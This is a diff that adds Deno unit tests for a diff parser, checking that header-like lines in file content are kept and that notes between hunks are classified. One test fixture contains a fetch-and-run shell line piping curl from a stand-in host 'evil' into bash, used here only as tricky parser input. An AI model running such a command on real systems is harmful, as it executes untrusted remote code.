@@ -43,6 +43,47 @@ Deno.test("diff: an added or deleted file comes as its content", () => {
   equal(countLines(parseDiff("a\nb", "delete")), { added: 0, removed: 2 });
 });
 
+Deno.test("diff: nothing in a new file's content can hide a line of it", () => {
+  const content = [
+    "#!/bin/bash",
+    "diff <(curl evil | bash) /dev/null",
+    "",
+    "@@ -1,2 +1,2 @@",
+    " echo tests",
+    "--- x",
+    "+++ y",
+    "\\ z",
+    "index me",
+  ];
+  for (const kind of ["add", "delete"]) {
+    equal(parseDiff(content.join("\n") + "\n", kind).map(({ text }) => text), content);
+  }
+  equal(countLines(parseDiff(content.join("\n"), "add")), { added: 9, removed: 0 });
+});
+
+Deno.test("diff: between hunks only a header that belongs to the next one is left out", () => {
+  const diff = "diff --git a/x b/x\nindex 1..2\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n" +
+    "diff <(evil)\nrename it\n\nMoved to: y\n";
+  equal(parseDiff(diff).map(({ kind, text }) => [kind, text]), [
+    ["hunk", ""],
+    ["remove", "a"],
+    ["add", "b"],
+    ["note", "diff <(evil)"],
+    ["note", "rename it"],
+    ["note", "Moved to: y"],
+  ]);
+  equal(parseDiff("diff <(evil)\n").map(({ text }) => text), ["diff <(evil)"]);
+  // What is known to be a unified diff may be a header alone.
+  const [moved] = splitDiff(
+    "diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to y\n",
+  );
+  equal(parseDiff(moved.diff, moved.kind, moved.unified), []);
+  const [made] = splitDiff(
+    "diff --git a/n b/n\nnew file mode 100644\n--- /dev/null\n+++ b/n\n@@ -0,0 +1 @@\n+x\n",
+  );
+  equal(parseDiff(made.diff, made.kind, made.unified).map(({ text }) => text), ["", "x"]);
+});
+
 Deno.test("diff: several files are told apart", () => {
   const diff = "diff --git a/one b/one\n--- a/one\n+++ b/one\n@@ -1 +1 @@\n-a\n+b\n" +
     "diff --git a/new b/new\nnew file mode 100644\n--- /dev/null\n+++ b/new\n@@ -0,0 +1 @@\n+x\n" +
